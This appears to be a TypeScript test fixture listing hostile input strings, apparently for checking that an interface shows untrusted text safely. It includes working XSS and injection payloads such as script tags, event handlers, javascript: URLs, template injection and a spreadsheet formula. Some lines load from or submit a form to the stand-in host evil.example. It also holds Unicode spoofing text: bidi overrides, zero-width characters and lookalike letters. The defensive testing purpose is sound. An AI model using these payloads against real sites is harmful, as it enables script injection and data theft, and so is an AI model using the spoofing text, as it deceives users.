/** A script that runs only if a page reads a text as markup or script. It sets `__hit`. */
const hit = 'window.__hit=1'

/** Texts that try to act as markup or script, by their kind. */
export const hostileMarkup: Readonly<Record<string, string>> = {
  script: `<script>${hit}</script>`,
  'script that ends another': `</script><script>${hit}</script>`,
  'end of a title': `</title></textarea></style><script>${hit}</script>`,
  picture: `<img src=x onerror=${hit}>`,
  'picture from elsewhere': '<img src="https://evil.example/pixel.png">',
  drawing: `<svg onload=${hit}><use href="https://evil.example/x.svg#a"/></svg>`,
  frame: `<iframe srcdoc="<script>parent.${hit}</script>"></iframe>`,
  'frame of elsewhere': '<iframe src=https://evil.example></iframe>',
  'attribute that ends': `" onmouseover="${hit}" autofocus onfocus="${hit}" x="`,
  'attribute in apostrophes': `' onclick='${hit}' x='`,
  'link that runs': `<a href="javascript:${hit}">click</a>`,
  'address that runs': `javascript:${hit}//@one.example`,
  'address of data': `data:text/html,<script>${hit}</script>`,
  style: '<style>*{display:none}</style>',
  'style from elsewhere': '<link rel=stylesheet href=https://evil.example/x.css>',
  'value of a style': 'red;background:url(https://evil.example/x.png)',
  base: '<base href=https://evil.example/>',
  'moves on': '<meta http-equiv=refresh content="0;url=https://evil.example">',
  form: '<form action=https://evil.example><input name=key autofocus></form>',
  template: `{{constructor.constructor('${hit}')()}} \${${hit}} <%= ${hit} %>`,
  entity: `&lt;script&gt;${hit}&lt;/script&gt; &#60;b&#62; &amp;amp;`,
  formula: '=HYPERLINK("https://evil.example","click")',
  terminal: '\u001b]0;evil\u0007\u001b[2J\u001b[31mred',
}

/** Texts that look different from their characters, by the characters that hide or reorder. */
export const misleadingTexts: Readonly<Record<string, string>> = {
  'override to the left': 'safe\u202eelpmaxe.live',
  embedding: '\u202bembedded\u202c \u202aleft\u202c \u202dforced\u202c',
  isolates: '\u2066a\u2069 \u2067b\u2069 \u2068c\u2069',
  'marks of direction': 'a\u200eb\u200fc\u061cd',
  'zero width': 'pay\u200bpal \u2060word\u2060 \ufeffstart',
  'joiner in Latin': 'pay\u200dpal',
  'soft hyphen': 'pay\u00adpal',
  NUL: 'before\u0000after',
  'lines and tabs': 'first\r\nsecond\tthird\u2028fourth\u2029fifth\u0085sixth',
  'backspace and delete': 'abc\b\b\bxyz\u007f',
  'lone surrogates': 'a\ud800b\udc00c',
  'letters of tags': 'tag\u{e0001}\u{e0065}\u{e0076}\u{e0069}\u{e006c}',
  annotation: '\ufff9shown\ufffahidden\ufffb',
  'Hangul fillers': 'a\u3164b\u115fc\u1160d\uffa0e',
  'blank of Braille': 'a\u2800b',
  'Mongolian separators': 'a\u180eb\u180bc',
  'joiner of graphemes': 'a\u034fb',
  'invisible operators': 'a\u2061b\u2062c\u2063d\u2064e',
  'selectors of variants': 'a\ufe0fb\u{e0100}c\ufe00',
  'tower of marks': `Z${'\u0301\u0323\u0336'.repeat(60)}algo`,
}

/** Texts that only need room, or look like others. */
export const oddTexts: Readonly<Record<string, string>> = {
  'right to left': 'שלום עולם مرحبا بالعالم',
  'both directions': 'one שלום two مرحبا 3',
  family: '👨‍👩‍👧‍👦 🏳️‍🌈 👍🏽',
  'other letters': 'аррӏе ɡооɡⅼе раураl',
  'private use': '\ue000\uf8ff\u{f0000}',
  'no break': 'x'.repeat(10_000),
  wide: 'W'.repeat(1_000),
  'wide signs': '﷽𒐫'.repeat(40),
  'many lines': 'line\n'.repeat(200),
}

/** All of these texts. */
export const hostileTexts: Readonly<Record<string, string>> = {
  ...hostileMarkup,
  ...misleadingTexts,
  ...oddTexts,
}
